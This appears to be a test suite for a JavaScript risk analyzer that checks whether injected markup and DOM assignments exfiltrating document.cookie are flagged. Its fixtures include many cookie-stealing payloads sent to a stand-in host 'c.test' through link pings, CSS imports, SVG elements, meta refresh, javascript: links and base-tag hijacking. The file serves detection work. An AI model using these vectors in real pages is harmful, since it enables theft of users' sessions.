import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { sinksOf } from "../testing/trace-of.ts";

/** Markup that makes a browser fetch `URL`. */
const MARKUP = [
	["a ping", `<a href=/ ping='URL'>x</a>`],
	["a preloaded picture", `<link rel=preload as=image imagesrcset='URL 2x'>`],
	["an imported style", `<style>@import 'URL';</style>`],
	["a style with a set of pictures", `<p style='background: image-set("/a" 1x, "URL" 2x)'>`],
	["a picture in a style", `<p style='background:url(URL)'>`],
	["a picture in SVG", `<svg><image href='URL'/></svg>`],
	["a symbol in SVG", `<svg><use xlink:href='URL#a'/></svg>`],
	["a filter in SVG", `<svg><feImage href='URL'/></svg>`],
	["a refresh", `<meta http-equiv='refresh' content='0; url=URL'>`],
	["a portal", `<portal src='URL'></portal>`],
	["a fenced frame", `<fencedframe src='URL'></fencedframe>`],
	["a button that looks like a picture", `<input type=image src='URL'>`],
	["a script in SVG", `<svg><script href='URL'></script></svg>`],
] as const;

/** Assignments that do the same. */
const WRITES = [
	["a portal", `document.createElement("portal").src = "URL"`],
	["a set of pictures", `document.body.style.backgroundImage = 'image-set("URL" 1x)'`],
	["a preloaded picture", `document.createElement("link").imageSrcset = "URL 2x"`],
	["a style sheet of the page", `document.querySelector("link[rel=stylesheet]").href = "URL"`],
] as const;

const within = (text: string, quote: string) =>
	text.replace("URL", `https://c.test/?${quote} + document.cookie + ${quote}`);
const programs = [
	...MARKUP.map(([title, html]) => [title, `document.body.innerHTML = ${within(JSON.stringify(html), '"')};`] as const),
	...WRITES.map(([title, code]) => [title, within(code, code.includes("'") ? "'" : '"')] as const),
];

describe("addresses in markup and styles", () => {
	test.each(programs)("%s takes the cookie along", (_title, code) => {
		expect(sinksOf(code)).toContainEqual(expect.stringMatching(/third-party c\.test < url cookie/));
		expect(analyzeScript({ code }).risk_level).toBe("red");
	});

	test.each(programs)("%s of the site itself", (_title, code) => {
		const own = code.replace("https://c.test/", "/own/");
		expect(sinksOf(own).filter((line) => line.includes("third-party"))).toEqual([]);
		expect(analyzeScript({ code: own }).risk_level).not.toBe("red");
	});

	test.each([
		["a link", "<a href='javascript:fetch(\"https://c.test/?\" + document.cookie)'>x</a>"],
		[
			"an animated link",
			"<svg><a><set attributeName=href to='javascript:fetch(\"https://c.test/?\" + document.cookie)'/></a></svg>",
		],
	])("%s can hold a program", (_title, html) => {
		expect(analyzeScript({ code: `document.body.innerHTML = ${JSON.stringify(html)}` }).risk_level).toBe("red");
	});

	test.each([
		["a link that does nothing", "<a href='javascript:void(0)'>x</a>"],
		["a link", "<a href='https://c.test/'>x</a>"],
		["styles without addresses", "<style>p { width: calc(2 * 1x) } a::after { content: 'x' }</style>"],
		["a symbol of its own", "<svg><use href='#a'/></svg>"],
	])("%s is nothing", (_title, html) => {
		expect(analyzeScript({ code: `document.body.innerHTML = ${JSON.stringify(html)}` }).risk_level).toBe("green");
	});
});

describe("a base for addresses", () => {
	const BASES = [
		["an element", `const b = document.createElement("base"); b.href = "https://c.test/"; document.head.prepend(b);`],
		["an attribute", `document.querySelector("base").setAttribute("href", "https://c.test/");`],
		["markup", `document.head.insertAdjacentHTML("afterbegin", "<base href='https://c.test/'>");`],
	] as const;

	test.each(BASES)("%s moves relative addresses", (_title, base) => {
		for (const address of ['"x?" + document.cookie', '"/x?" + document.cookie', '"?" + document.cookie'])
			expect(analyzeScript({ code: `${base} fetch(${address})` }).risk_level).toBe("red");
		expect(analyzeScript({ code: base }).risk_level).toBe("amber");
	});

	test.each(BASES)("%s leaves absolute addresses unchanged", (_title, base) => {
		const code = `${base} fetch(location.origin + "/x?" + document.cookie)`;
		expect(sinksOf(code)).toContainEqual(expect.stringMatching(/^request fetch > same-site </));
		expect(analyzeScript({ code: base.replace("https://c.test/", "/app/") }).risk_level).toBe("green");
	});
});
